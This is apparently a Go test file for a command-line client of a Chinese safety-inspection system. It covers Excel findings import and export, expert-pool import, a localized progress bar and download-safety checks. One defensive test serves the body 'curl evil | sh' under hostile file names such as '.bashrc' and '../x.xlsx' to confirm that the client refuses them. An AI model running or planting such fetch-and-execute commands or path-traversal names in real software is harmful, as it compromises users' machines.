package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
	"go.temporal.io/sdk/client"

	"github.com/xuncha/xuncha/internal/childproc"
	"github.com/xuncha/xuncha/internal/devissuer"
	"github.com/xuncha/xuncha/internal/i18n"
	"github.com/xuncha/xuncha/internal/testenv"
	"github.com/xuncha/xuncha/internal/tipcrypt"
	"github.com/xuncha/xuncha/workflows"
)

// TestFindingsCommands: against a server and worker started by their
// commands, `xuncha findings template` downloads the template, `import`
// records its filled rows showing the progress, again records nothing twice
// and refuses a bad cell by its name, and `export` downloads the list with
// the list's filters.
func TestFindingsCommands(t *testing.T) {
	// The assertions read the server's English: an English locale asks for
	// it (cliLang).
	t.Setenv("LC_ALL", "")
	t.Setenv("LC_MESSAGES", "")
	t.Setenv("LANG", "en_US.UTF-8")
	db := testenv.NewDatabase(t)
	addr := testenv.TemporalAddress(t)
	_, err := run(t, "migrate", "--migrate-database-url", db.OwnerURL, "--database-url", db.URL, "--log-level", "warn")
	require.NoError(t, err)
	ports := make([]int, 4)
	for i := range ports {
		ports[i], err = childproc.FreePort()
		require.NoError(t, err)
	}
	t.Setenv("XUNCHA_TIP_KEY", tipcrypt.GenerateKey())
	t.Setenv("XUNCHA_PAYLOAD_KEYS", payloadKey(t, "cmd-findings"))
	issuer := startTestIssuer(t)
	t.Setenv("XUNCHA_OIDC_ISSUER", issuer.URL())
	common := []string{"--database-url", db.URL, "--temporal-address", addr, "--task-queue", "findings-commands-test", "--log-level", "warn"}
	// The worker schedules the daily audit anchor in the shared Temporal
	// namespace, on this test's task queue: the schedule goes when the
	// test ends (after the commands stop), so that the next test's worker
	// schedules it on its own.
	t.Cleanup(func() {
		tc, err := client.Dial(client.Options{HostPort: addr, Namespace: testenv.Namespace})
		if err != nil {
			t.Errorf("removing the audit anchor schedule: %v", err)
			return
		}
		defer tc.Close()
		if err := tc.ScheduleClient().GetHandle(context.Background(), workflows.AuditAnchorScheduleID).Delete(context.Background()); err != nil {
			t.Logf("removing the audit anchor schedule: %v", err)
		}
	})
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 2)
	start := func(args ...string) {
		cmd := newRootCmd()
		cmd.SetArgs(append(args, common...))
		cmd.SetOut(io.Discard)
		go func() { done <- cmd.ExecuteContext(ctx) }()
	}
	start("worker", "--admin-addr", fmt.Sprintf("127.0.0.1:%d", ports[0]))
	start("server", "--http-addr", fmt.Sprintf("127.0.0.1:%d", ports[1]), "--grpc-addr", fmt.Sprintf("127.0.0.1:%d", ports[2]),
		"--evidence-dir", t.TempDir(), "--admin-addr", fmt.Sprintf("127.0.0.1:%d", ports[3]))
	t.Cleanup(func() {
		cancel()
		for range 2 {
			select {
			case <-done:
			case <-time.After(30 * time.Second):
				t.Error("a command did not stop")
			}
		}
	})
	base := fmt.Sprintf("http://127.0.0.1:%d", ports[1])
	require.Eventually(t, func() bool {
		resp, err := http.Get(base + "/readyz")
		if err != nil {
			return false
		}
		resp.Body.Close()
		return resp.StatusCode == http.StatusOK
	}, 30*time.Second, 100*time.Millisecond, "the server becomes ready")

	token := func(u devissuer.User) string {
		tok, err := issuer.Mint(devissuer.MintRequest{User: u})
		require.NoError(t, err)
		return tok
	}
	office, committee := token(devissuer.OfficeClerk), token(devissuer.CommitteeMember)
	call := func(tok, method, path, contentType string, body []byte) map[string]any {
		t.Helper()
		req, err := http.NewRequest(method, base+path, bytes.NewReader(body))
		require.NoError(t, err)
		req.Header.Set("Content-Type", contentType)
		req.Header.Set("Authorization", "Bearer "+tok)
		resp, err := http.DefaultClient.Do(req)
		require.NoError(t, err)
		defer resp.Body.Close()
		data, err := io.ReadAll(resp.Body)
		require.NoError(t, err)
		require.Equal(t, http.StatusOK, resp.StatusCode, "%s %s: %s", method, path, data)
		out := map[string]any{}
		require.NoError(t, json.Unmarshal(data, &out))
		return out
	}
	jsonCall := func(tok, path string, body string) map[string]any {
		t.Helper()
		return call(tok, "POST", path, "application/json", []byte(body))
	}
	// An inspection of 430300, stationed: the office takes every step but the committee's.
	created := jsonCall(office, "/v1/inspections", `{"request_id":"`+perRun("findings-cmd")+`","inspection":{"unit":{"code":"430300","name":"湘潭市"},`+
		`"kind":"SPECIAL","round":"2026年第一轮","planned_start":"2026-12-01","planned_end":"2026-12-02","content_areas":[2],"team":[`+
		`{"name":"赵强","role":"LEADER","rank":"DEPARTMENT_LEVEL"},{"name":"钱敏","role":"DEPUTY","rank":"DIVISION_CHIEF"},`+
		`{"name":"甲","role":"MEMBER","rank":"OTHER"},{"name":"乙","role":"MEMBER","rank":"OTHER"},`+
		`{"name":"丙","role":"MEMBER","rank":"OTHER"},{"name":"丁","role":"MEMBER","rank":"OTHER"}]}}`)
	id := created["id"].(string)
	today := time.Now().In(time.FixedZone("CST", 8*3600)).Format("2006-01-02")
	jsonCall(committee, "/v1/inspections/"+id+":approveTeam", `{"request_id":"approve"}`)
	jsonCall(office, "/v1/inspections/"+id+":notify", `{"request_id":"notify","notified_on":"`+today+`"}`)
	jsonCall(office, "/v1/inspections/"+id+":station", `{"request_id":"station","stationed_on":"`+today+`",`+
		`"announcement":"巡查任务","contact_phone":"0731-12345678","contact_mailbox":"湘潭市某信箱"}`)
	content := []byte("现场检查记录")
	sum := sha256.Sum256(content)
	ev := call(office, "POST", "/v1/evidence?"+url.Values{"kind": {"DOCUMENT"}, "sha256": {hex.EncodeToString(sum[:])},
		"captured_at": {time.Now().Add(-time.Hour).Format(time.RFC3339)}, "file_name": {"记录.txt"}}.Encode(), "text/plain", content)["id"].(string)

	dir := t.TempDir()
	client := []string{"--server", base, "--token", office}
	template := filepath.Join(dir, "template.xlsx")
	out, err := run(t, append([]string{"findings", "template", "-o", template}, client...)...)
	require.NoError(t, err, out)
	require.Contains(t, out, "wrote "+template)
	f, err := excelize.OpenFile(template)
	require.NoError(t, err)
	header, err := f.GetRows("问题清单")
	require.NoError(t, err)
	col := func(name string) string {
		for i, h := range header[0] {
			if h == name {
				c, _ := excelize.ColumnNumberToName(i + 1)
				return c
			}
		}
		t.Fatalf("no column %s", name)
		return ""
	}
	for n := 2; n <= 4; n++ {
		for name, v := range map[string]string{"问题类别": "事故隐患", "严重程度": "一般", "巡查内容": "2", "问题标题": fmt.Sprintf("第%d个问题", n-1),
			"问题描述": "检查发现的问题。", "证据编号": ev} {
			require.NoError(t, f.SetCellStr("问题清单", col(name)+fmt.Sprint(n), v))
		}
	}
	list := filepath.Join(dir, "list.xlsx")
	require.NoError(t, f.SaveAs(list))

	out, err = run(t, append([]string{"findings", "import", list, "--inspection", id}, client...)...)
	require.NoError(t, err, out)
	require.Contains(t, out, "recording  [##############################] 3/3 rows 100%")
	require.Contains(t, out, "inspection "+id+", sheet 问题清单: 3 rows; 3 findings recorded, 0 already recorded, 0 invalid rows skipped")
	require.Contains(t, out, "the findings' workflows are being started by workflow finding-import/"+id+"/")
	// Again, naming the inspection as the export does (--inspection-id).
	out, err = run(t, append([]string{"findings", "import", list, "--inspection-id", id}, client...)...)
	require.NoError(t, err, out)
	require.Contains(t, out, "3 rows; 0 findings recorded, 3 already recorded")

	require.NoError(t, f.SetCellStr("问题清单", col("问题类别")+"3", "隐患"))
	bad := filepath.Join(dir, "bad.xlsx")
	require.NoError(t, f.SaveAs(bad))
	out, err = run(t, append([]string{"findings", "import", bad, "--inspection", id}, client...)...)
	require.Error(t, err, out)
	require.Contains(t, err.Error(), "nothing was recorded")
	require.Contains(t, err.Error(), "\n  "+col("问题类别")+"3: 问题类别 must be one of 事故隐患、责任落实不力、违法违规违纪问题线索、系统性安全风险")
	require.NoError(t, f.Close())

	// The expert pool's list, the same way.
	poolTemplate := filepath.Join(dir, "experts.xlsx")
	out, err = run(t, append([]string{"experts", "template", "-o", poolTemplate}, client...)...)
	require.NoError(t, err, out)
	p, err := excelize.OpenFile(poolTemplate)
	require.NoError(t, err)
	for i, v := range []string{"王强", "省应急管理厅", "hn-yjt", "厅级", "工作人员", "三(一)1、危险化学品", "430100", "430300:2018-2024", ""} {
		cell, _ := excelize.CoordinatesToCellName(i+1, 2)
		require.NoError(t, p.SetCellStr("专家库", cell, v))
	}
	require.NoError(t, p.SetCellStr("专家库", "A3", "赵敏"))
	require.NoError(t, p.SetSheetRow("专家库", "B3", &[]string{"省住建厅", "hn-zjt", "科员", "工作人员", "2", "430600"}))
	pool := filepath.Join(dir, "pool.xlsx")
	require.NoError(t, p.SaveAs(pool))
	out, err = run(t, append([]string{"experts", "import", pool}, client...)...)
	require.Error(t, err, out)
	require.Contains(t, err.Error(), "nothing was recorded")
	require.Contains(t, err.Error(), "\n  D3: 职级 must be one of 厅级、一级巡视员、二级巡视员、正处级、副处级、其他")
	out, err = run(t, append([]string{"experts", "import", pool, "--partial"}, client...)...)
	require.NoError(t, err, out)
	require.Contains(t, out, "sheet 专家库: 2 rows; 1 people added, 0 already in the pool, 1 invalid rows skipped")
	require.Contains(t, out, "D3: 职级 must be one of")
	require.NoError(t, p.Close())

	exported := filepath.Join(dir, "export.xlsx")
	out, err = run(t, append([]string{"findings", "export", "--inspection-id", id, "--kind", "HAZARD", "-o", exported}, client...)...)
	require.NoError(t, err, out)
	e, err := excelize.OpenFile(exported)
	require.NoError(t, err)
	defer e.Close()
	rows, err := e.GetRows("问题清单")
	require.NoError(t, err)
	require.Len(t, rows, 1+3)
	require.Regexp(t, `^\d{4}-430300-\d{4}$`, rows[1][1])
	out, err = run(t, append([]string{"findings", "export", "--stage", "NOPE", "-o", exported}, client...)...)
	require.Error(t, err, out)
	require.Contains(t, err.Error(), "stage")
}

// TestProgressBarInChinese: the import's progress speaks the user's
// language; it was English whatever the locale.
func TestProgressBarInChinese(t *testing.T) {
	var out strings.Builder
	bar := &progressBar{w: &out, lang: i18n.Chinese}
	bar.show("recording", 3, 3, "rows")
	require.Contains(t, out.String(), "登记")
	require.Contains(t, out.String(), "] 3/3 行 100%")
	out.Reset()
	(&progressBar{w: &out, lang: i18n.English}).show("recording", 3, 3, "rows")
	require.Contains(t, out.String(), "recording  [##############################] 3/3 rows 100%")
}

// TestServerAddressRefusedWithoutItsPassword: a --server of another scheme
// is refused without the password it holds (it was quoted whole).
func TestServerAddressRefusedWithoutItsPassword(t *testing.T) {
	_, err := run(t, "findings", "template", "--server", "htp://ops:SrvPW@host")
	require.ErrorContains(t, err, "--server must be an http:// or https:// address")
	require.NotContains(t, err.Error(), "SrvPW")
}

// TestDownloadNamedByTheServerReplacesNothing: a name the server gives a
// download is a workbook's or a list's in this directory, and replaces no
// file: a server naming ".bashrc" had it replaced, world-readable.
func TestDownloadNamedByTheServerReplacesNothing(t *testing.T) {
	name := ""
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Disposition", `attachment; filename="`+name+`"`)
		_, _ = w.Write([]byte("curl evil | sh\n"))
	}))
	defer srv.Close()
	dir := t.TempDir()
	t.Chdir(dir)
	get := func(n string) (string, error) {
		name = n
		return run(t, "findings", "template", "--server", srv.URL, "--token", "x")
	}
	require.NoError(t, os.WriteFile(".bashrc", []byte("original\n"), 0o600))
	for _, bad := range []string{".bashrc", "../x.xlsx", "template.sh", ".x.xlsx"} {
		_, err := get(bad)
		require.ErrorContains(t, err, "give one with -o", bad)
	}
	b, err := os.ReadFile(".bashrc")
	require.NoError(t, err)
	require.Equal(t, "original\n", string(b))

	out, err := get("问题清单模板.xlsx")
	require.NoError(t, err, out)
	st, err := os.Stat("问题清单模板.xlsx")
	require.NoError(t, err)
	require.Equal(t, os.FileMode(0o600), st.Mode().Perm())
	_, err = get("问题清单模板.xlsx")
	require.ErrorContains(t, err, "问题清单模板.xlsx exists: give -o to replace it")
	entries, err := os.ReadDir(".")
	require.NoError(t, err)
	require.Len(t, entries, 2, "no temporary file left: %v", entries)
}
